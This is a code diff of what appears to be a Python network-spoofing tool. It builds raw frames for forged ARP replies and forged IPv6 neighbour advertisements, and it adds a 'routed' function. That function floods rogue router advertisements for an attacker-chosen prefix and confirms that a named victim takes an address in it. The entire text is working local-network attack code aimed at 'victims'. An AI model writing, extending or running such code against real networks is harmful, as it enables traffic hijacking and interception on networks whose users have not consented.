@@ -106,14 +106,46 @@ def _arp(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
     return target_mac + own_mac() + struct.pack("!H", _ARP) + body
 
 
-def _neighbour_advertisement(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
-    ends = socket.inet_pton(socket.AF_INET6, claimed) + socket.inet_pton(socket.AF_INET6, target)
-    body = struct.pack("!I", 0x60000000) + socket.inet_pton(socket.AF_INET6, claimed) + b"\x02\x01" + mac
+def _icmpv6(frame_to: bytes, source: bytes, target: bytes, type: int, body: bytes) -> bytes:
     length = 4 + len(body)
-    pseudo = ends + struct.pack("!II", length, _ICMPV6)
-    message = struct.pack("!BBH", 136, 0, checksum(pseudo + struct.pack("!BBH", 136, 0, 0) + body)) + body
-    header = struct.pack("!IHBB", 0x60000000, length, _ICMPV6, 255) + ends
-    return target_mac + own_mac() + struct.pack("!H", _IPV6) + header + message
+    pseudo = source + target + struct.pack("!II", length, _ICMPV6)
+    message = struct.pack("!BBH", type, 0, checksum(pseudo + struct.pack("!BBH", type, 0, 0) + body)) + body
+    header = struct.pack("!IHBB", 0x60000000, length, _ICMPV6, 255) + source + target
+    return frame_to + own_mac() + struct.pack("!H", _IPV6) + header + message
+
+
+def _ipv6(address: str) -> bytes:
+    return socket.inet_pton(socket.AF_INET6, address)
+
+
+def _from_mac(prefix: str, mac: bytes) -> bytes:
+    """The address that an interface gives itself."""
+    return _ipv6(prefix)[:8] + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
+
+
+def _neighbour_advertisement(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
+    body = struct.pack("!I", 0x60000000) + _ipv6(claimed) + b"\x02\x01" + mac
+    return _icmpv6(target_mac, _ipv6(claimed), _ipv6(target), 136, body)
+
+
+def routed(prefix: str, victims_ipv4: str) -> str:
+    """Tell everybody that a network is here; the address that a neighbour takes in it then, for a minute."""
+    line = _frames(_IPV6)
+    own, theirs = own_mac(), mac_of(victims_ipv4)
+    ours, wanted = _from_mac("fe80::", own), _from_mac(prefix, theirs)
+    lasting = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 60, 60, 0) + _ipv6(prefix)
+    router = struct.pack("!BBHII", 64, 0, 0, 0, 0) + lasting
+    asking = struct.pack("!I", 0) + wanted + b"\x01\x01" + own
+    until = time.monotonic() + SECONDS
+    while time.monotonic() < until:
+        line.send(_icmpv6(bytes.fromhex("333300000001"), ours, _ipv6("ff02::1"), 134, router))
+        nodes = _ipv6("ff02::1:ff00:0")[:13] + wanted[13:]
+        line.send(_icmpv6(b"\x33\x33" + nodes[12:], ours, nodes, 135, asking))
+        time.sleep(0.2)
+        while frame := _received(line):
+            if frame[6:12] == theirs and frame[54:55] == b"\x88" and frame[62:78] == wanted:
+                return f"{victims_ipv4} is {socket.inet_ntop(socket.AF_INET6, wanted)} as well"
+    raise OSError(f"{victims_ipv4} takes no address of that network")
 
 
 def claimed(address: str, victim: str, victims_ipv4: str = "") -> str:
